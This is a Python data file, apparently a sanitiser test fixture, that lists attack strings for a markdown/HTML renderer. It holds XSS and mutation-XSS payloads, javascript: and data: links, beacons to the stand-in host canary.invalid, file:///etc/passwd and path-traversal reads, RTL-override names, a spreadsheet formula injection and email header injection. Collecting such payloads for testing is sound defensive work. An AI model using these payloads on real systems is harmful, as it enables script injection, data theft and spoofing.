"""Attacks in a text: script, requests, foreign files, links that deceive. Data only; each was seen against some editor or sanitiser."""

SCRIPT = [
    "<script>ran()</script>", "<SCRIPT SRC=//canary.invalid/x.js></SCRIPT>", "<img src=x onerror=ran()>", "<img src=x OnErRoR\n=ran()>",
    "<svg onload=ran()>", "<svg><script>ran()</script></svg>", "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><set onbegin=ran()>",
    "<body onload=ran()>", "<details open ontoggle=ran()>x</details>", "<video><source onerror=ran()></video>", "<audio src=x onerror=ran()>",
    "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()>", "<marquee onstart=ran()>x</marquee>", "<p style=animation-name:x onanimationstart=ran()>x</p>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>", "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
    "<template><script>ran()</script></template>", "<style><img src=\"</style><img src=x onerror=ran()>\">", "<textarea><img title=\"</textarea><img src=x onerror=ran()>\">",
    "<xmp><p title=\"</xmp><svg/onload=ran()>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=ran()>\">", "<math><mi//xlink:href=\"data:x,<script>ran()</script>\">",
    "<table background=javascript:ran()><tr><td>x</table>", "<div style=\"background:url(javascript:ran())\">x</div>", "<div style=\"width:expression(ran())\">x</div>",
    "<isindex type=image src=1 onerror=ran()>", "<embed src=javascript:ran()>", "<object data=javascript:ran()>", "<iframe srcdoc='<script>ran()</script>'>",
    "<!--><img src=x onerror=ran()>-->", "<![CDATA[<img src=x onerror=ran()>]]>", "<?php ran() ?><img src=x onerror=ran()>", "<%= ran() %><svg/onload=ran()>",
    "```\" onmouseover=ran() x=\"\ncode\n```", "~~~ js\"><script>ran()</script>\ncode\n~~~", "# <script>ran()</script>", "| <img src=x onerror=ran()> |\n|---|\n| x |",
    "[^1]\n\n[^1]: <img src=x onerror=ran()>", "*[X]: \"><script>ran()</script>\n\nX", "![x](stills/a.jpg \"\\\"onerror=ran()\")", "![\"onerror=ran()](x)", "{: onclick=ran() }", "x\n{: #a onclick=ran() style=x }",
    ">! <img src=x onerror=ran()>", "[[<img src=x onerror=ran()> (1997)]]", "%%<script>ran()</script>%%",
]  # fmt: skip
LINKS = [
    "[x](javascript:ran())", "[x](JaVaScRiPt:ran())", "[x](java&#10;script:ran())", "[x](&#x6A;avascript:ran())", "[x](javascript&colon;ran())", "[x](<java\tscript:ran()>)",
    "[x](\x01javascript:ran())", "[x](data:text/html,<script>ran()</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:ran())", "[x](file:///etc/passwd)",
    "[x](\\\\\\\\canary.invalid\\share)", "[x](smb://canary.invalid/x)", "[x](ms-word:ofe|u|http://canary.invalid)", "[x](search-ms:query=x)", "[x](blob:http://x)", "[x](view-source:http://x)",
    "[x]: javascript:ran()\n\n[x]", "<javascript:ran()>", "<a href=javascript:ran()>x</a>", "<a href='  javascript:ran()'>x</a>", "<a href=\"java\nscript:ran()\">x</a>", "<a href=http://a.example ping=http://canary.invalid/p>x</a>",
    "<a xlink:href=javascript:ran()>x</a>", "<form action=javascript:ran()><button>x</button></form>", "<button formaction=javascript:ran()>x</button>", "<area href=javascript:ran()>", "<base href=http://canary.invalid/>",
]  # fmt: skip
REQUESTS = [
    "<img src=http://canary.invalid/x.png>", "![x](http://canary.invalid/x.png)", "![x](//canary.invalid/x.png)", "![x](\\\\\\\\canary.invalid\\x.png)", "<img srcset='http://canary.invalid/x.png 2x'>", "<picture><source srcset=http://canary.invalid/x></picture>",
    "<link rel=stylesheet href=http://canary.invalid/x.css>", "<link rel=prefetch href=http://canary.invalid/>", "<style>@import 'http://canary.invalid/x.css';</style>", "<p style=\"background:url(http://canary.invalid/x)\">x</p>",
    "<video src=http://canary.invalid/x poster=http://canary.invalid/y></video>", "<audio src=http://canary.invalid/x></audio>", "<iframe src=http://canary.invalid/></iframe>", "<embed src=http://canary.invalid/>", "<object data=http://canary.invalid/></object>",
    "<meta http-equiv=refresh content='0;url=http://canary.invalid/'>", "<svg><image href=http://canary.invalid/x /></svg>", "<svg><use href=http://canary.invalid/x#a /></svg>", "<input type=image src=http://canary.invalid/x>", "<track src=http://canary.invalid/x>",
    "<img src=ftp://canary.invalid/x>", "<img src=ws://canary.invalid/x>", "<body background=http://canary.invalid/x>", "<math href=http://canary.invalid/x>x</math>", "<frameset><frame src=http://canary.invalid/></frameset>",
]  # fmt: skip
FILES = [
    "![x](file:///etc/hostname)", "<img src=file:///etc/hostname>", "<iframe src=file:///etc/hostname></iframe>", "<object data=file:///etc/hostname></object>", "![x](../moon-2009/stills/lunar.jpg)", "![x](stills/../../moon-2009/stills/lunar.jpg)",
    "![x](/etc/hostname)", "![x](stills/..%2f..%2fmoon-2009/stills/lunar.jpg)", "![x](qrc:/x)", "![x](stills/link.jpg)", "![x](stills/pipe.jpg)", "![x](/dev/zero)", "![x](stills\\..\\..\\x)", "<embed src=file:///etc/hostname>", "<link rel=stylesheet href=file:///etc/hostname>",
]  # fmt: skip
ALL = (*SCRIPT, *LINKS, *REQUESTS, *FILES)
NAMES = [
    "<img src=x onerror=ran()>", "<b>bold</b>", "<a href='http://canary.invalid'>x</a>", "<img src='file:///etc/hostname'>", "<table><tr><td>x</table>", "&lt;b&gt;",
    "\u202egpj.exe", "a\u2066b\u2069c", "line\nbreak", "tab\tin", "bell\x07", "{{ site.title }}", "{% raw %}", "=cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "Bcc: x@canary.invalid", "x\r\nBcc: x@canary.invalid",
]  # fmt: skip
